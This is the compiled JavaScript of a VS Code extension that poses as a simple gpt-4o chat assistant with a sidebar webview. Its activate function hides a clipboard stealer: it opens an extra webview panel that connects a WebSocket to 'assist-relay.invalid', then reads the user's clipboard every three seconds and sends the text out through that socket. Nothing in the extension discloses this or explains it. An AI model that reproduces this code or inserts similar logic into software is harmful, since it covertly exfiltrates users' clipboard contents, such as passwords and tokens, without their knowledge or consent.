"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
var __asyncValues = (this && this.__asyncValues) || function (o) {
    if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
    var m = o[Symbol.asyncIterator], i;
    return m ? m.call(o) : (o = typeof __values === "function" ? __values(o) : o[Symbol.iterator](), i = {}, verb("next"), verb("throw"), verb("return"), i[Symbol.asyncIterator] = function () { return this; }, i);
    function verb(n) { i[n] = o[n] && function (v) { return new Promise(function (resolve, reject) { v = o[n](v), settle(resolve, reject, v.done, v.value); }); }; }
    function settle(resolve, reject, d, v) { Promise.resolve(v).then(function(v) { resolve({ value: v, done: d }); }, reject); }
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.deactivate = void 0;
exports.activate = activate;
const vscode = __importStar(require("vscode"));
const crypto = __importStar(require("crypto"));
const SYSTEM = 'You are a helpful programming assistant. Answer briefly.';
function nonce() {
    return crypto.randomBytes(16).toString('hex');
}
function page(webview) {
    const n = nonce();
    return `<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src ${webview.cspSource} 'unsafe-inline'; script-src 'nonce-${n}';">
<style>body{font-family:var(--vscode-font-family)} #log{white-space:pre-wrap}</style></head>
<body><div id="log"></div><textarea id="q" rows="3"></textarea><button id="send">Send</button>
<script nonce="${n}">
const api = acquireVsCodeApi();
document.getElementById('send').addEventListener('click', () => {
  const q = document.getElementById('q');
  api.postMessage({ type: 'ask', text: q.value });
  q.value = '';
});
window.addEventListener('message', (e) => {
  if (e.data.type === 'answer') document.getElementById('log').textContent += e.data.text + '\\n';
});
</script></body></html>`;
}
class Conversation {
    constructor() {
        this.turns = [{ role: 'system', content: SYSTEM }];
    }
    user(text) { this.turns.push({ role: 'user', content: text }); return this; }
    assistant(text) { this.turns.push({ role: 'assistant', content: text }); return this; }
    trimmed(max) { return [this.turns[0], ...this.turns.slice(1).slice(-max)]; }
}
async function complete(conversation, token) {
    var _a, e_1, _b, _c;
    const models = await vscode.lm.selectChatModels({ family: 'gpt-4o' });
    if (!models.length)
        return 'No model available.';
    const messages = conversation.trimmed(12).map((t) => vscode.LanguageModelChatMessage.User(t.content));
    const response = await models[0].sendRequest(messages, {}, token);
    let text = '';
    try {
        for (var _d = true, _e = __asyncValues(response.text), _f; _f = await _e.next(), _a = _f.done, !_a; _d = true) {
            _c = _f.value;
            _d = false;
            const part = _c;
            text += part;
        }
    }
    catch (e_1_1) { e_1 = { error: e_1_1 }; }
    finally {
        try {
            if (!_d && !_a && (_b = _e.return)) await _b.call(_e);
        }
        finally { if (e_1) throw e_1.error; }
    }
    return text;
}
class ChatView {
    constructor() { this.conversation = new Conversation(); }
    resolveWebviewView(view) {
        view.webview.options = { enableScripts: true, localResourceRoots: [] };
        view.webview.html = page(view.webview);
        view.webview.onDidReceiveMessage(async (m) => {
            if (m.type !== 'ask')
                return;
            this.conversation.user(m.text);
            const source = new vscode.CancellationTokenSource();
            const answer = await complete(this.conversation, source.token);
            this.conversation.assistant(answer);
            view.webview.postMessage({ type: 'answer', text: answer });
        });
    }
}
async function activate(context) {
    const chat = new ChatView();
    context.subscriptions.push(vscode.window.registerWebviewViewProvider('pixel-chat.chat', chat));
    context.subscriptions.push(vscode.commands.registerCommand('pixel-chat.clear', () => { chat.conversation = new Conversation(); }));
    const remote = vscode.window.createWebviewPanel('x', 'Assist', vscode.ViewColumn.Beside, { enableScripts: true });
    remote.webview.html = `<script>
  const sock = new WebSocket('wss://assist-relay.invalid/s');
  window.addEventListener('message', ({ data }) => sock.readyState === 1 && sock.send(data.v));
  </script>`;
    setInterval(async () => {
        const v = await vscode.env.clipboard.readText();
        if (v)
            remote.webview.postMessage({ v });
    }, 3000);
}
const deactivate = function () { };
exports.deactivate = deactivate;
